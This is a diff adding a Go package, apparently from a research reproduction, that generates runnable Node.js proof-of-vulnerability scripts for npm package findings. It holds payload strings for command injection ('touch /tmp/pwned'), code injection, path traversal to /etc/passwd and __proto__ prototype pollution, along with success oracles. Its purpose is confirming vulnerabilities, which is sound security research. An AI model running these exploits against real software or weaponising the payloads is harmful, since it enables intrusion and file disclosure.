@@ -1,0 +1,120 @@
+// Package poc generates proof-of-vulnerability skeletons for findings.
+// The paper's RQ2 methodology confirms reported vulnerabilities by
+// writing exploits by hand (§5.3: "we successfully created an exploit
+// for 101 of them"); this package automates the boilerplate: for each
+// finding it emits a runnable Node.js script that drives the exported
+// entry point with a class-appropriate payload and an oracle that
+// detects success.
+package poc
+
+import (
+	"fmt"
+	"strings"
+
+	"repro/internal/queries"
+)
+
+// Exploit is one generated proof-of-vulnerability script.
+type Exploit struct {
+	Finding queries.Finding
+	// Script is the Node.js source of the PoC.
+	Script string
+	// Oracle describes what to observe when the exploit fires.
+	Oracle string
+}
+
+// payloads per vulnerability class: the attack string and the oracle
+// explaining the observable effect.
+func payloadFor(cwe queries.CWE) (payload, oracle string) {
+	switch cwe {
+	case queries.CWECommandInjection:
+		return `"; touch /tmp/pwned-" + marker + " #"`,
+			"the file /tmp/pwned-<marker> exists after the call"
+	case queries.CWECodeInjection:
+		return `"global.__pwned = '" + marker + "'"`,
+			"global.__pwned equals the marker after the call"
+	case queries.CWEPathTraversal:
+		return `"../../../../etc/passwd"`,
+			"the callback receives the contents of /etc/passwd"
+	case queries.CWEPrototypePollution:
+		return `JSON.parse('{"__proto__": {"polluted": "' + marker + '"}}')`,
+			"({}).polluted equals the marker after the call"
+	default:
+		return `marker`, "manual inspection required"
+	}
+}
+
+// entryExpression renders how the PoC reaches the vulnerable entry
+// point: the exported function, optionally by property name.
+func entryExpression(exportName string) string {
+	if exportName == "" || exportName == "module.exports" {
+		return "pkg"
+	}
+	return "pkg." + exportName
+}
+
+// Generate builds an exploit skeleton for one finding against a package
+// directory (as required 'pkgPath'). exportName selects the exported
+// entry point ("" for module.exports itself); argPos is the position of
+// the attacker-controlled argument.
+func Generate(f queries.Finding, pkgPath, exportName string, argPos, arity int) Exploit {
+	payload, oracle := payloadFor(f.CWE)
+	if arity <= argPos {
+		arity = argPos + 1
+	}
+	args := make([]string, arity)
+	for i := range args {
+		args[i] = fmt.Sprintf("benign%d", i)
+	}
+	args[argPos] = "payload"
+
+	var sb strings.Builder
+	fmt.Fprintf(&sb, "// Proof of vulnerability: %s at %s\n", f.CWE, sinkRef(f))
+	fmt.Fprintf(&sb, "// Oracle: %s\n", oracle)
+	fmt.Fprintf(&sb, "var pkg = require(%q);\n", pkgPath)
+	fmt.Fprintf(&sb, "var marker = Date.now().toString(36);\n")
+	for i, a := range args {
+		if a != "payload" {
+			fmt.Fprintf(&sb, "var benign%d = 'benign';\n", i)
+		}
+	}
+	fmt.Fprintf(&sb, "var payload = %s;\n", payload)
+	if f.CWE == queries.CWEPrototypePollution {
+		// Pollution entry points conventionally take (target, key,
+		// value); drive all three with the polluting shape.
+		fmt.Fprintf(&sb, "%s({}, '__proto__', { polluted: marker });\n", entryExpression(exportName))
+		fmt.Fprintf(&sb, "if (({}).polluted === marker) { console.log('POLLUTED'); process.exit(0); }\n")
+		fmt.Fprintf(&sb, "%s(payload, 'polluted', marker);\n", entryExpression(exportName))
+		fmt.Fprintf(&sb, "console.log(({}).polluted === marker ? 'POLLUTED' : 'not polluted');\n")
+	} else {
+		fmt.Fprintf(&sb, "%s(%s);\n", entryExpression(exportName), strings.Join(args, ", "))
+		switch f.CWE {
+		case queries.CWECommandInjection:
+			fmt.Fprintf(&sb, "setTimeout(function() {\n")
+			fmt.Fprintf(&sb, "\trequire('fs').access('/tmp/pwned-' + marker, function(err) {\n")
+			fmt.Fprintf(&sb, "\t\tconsole.log(err ? 'not exploited' : 'EXPLOITED');\n")
+			fmt.Fprintf(&sb, "\t});\n}, 500);\n")
+		case queries.CWECodeInjection:
+			fmt.Fprintf(&sb, "console.log(global.__pwned === marker ? 'EXPLOITED' : 'not exploited');\n")
+		case queries.CWEPathTraversal:
+			fmt.Fprintf(&sb, "// Inspect the callback output for /etc/passwd contents.\n")
+		}
+	}
+	return Exploit{Finding: f, Script: sb.String(), Oracle: oracle}
+}
+
+func sinkRef(f queries.Finding) string {
+	if f.SinkFile != "" {
+		return fmt.Sprintf("%s:%d", f.SinkFile, f.SinkLine)
+	}
+	return fmt.Sprintf("line %d", f.SinkLine)
+}
+
+// GenerateAll builds exploit skeletons for every finding of a report.
+func GenerateAll(findings []queries.Finding, pkgPath string) []Exploit {
+	out := make([]Exploit, 0, len(findings))
+	for _, f := range findings {
+		out = append(out, Generate(f, pkgPath, "", 0, 1))
+	}
+	return out
+}
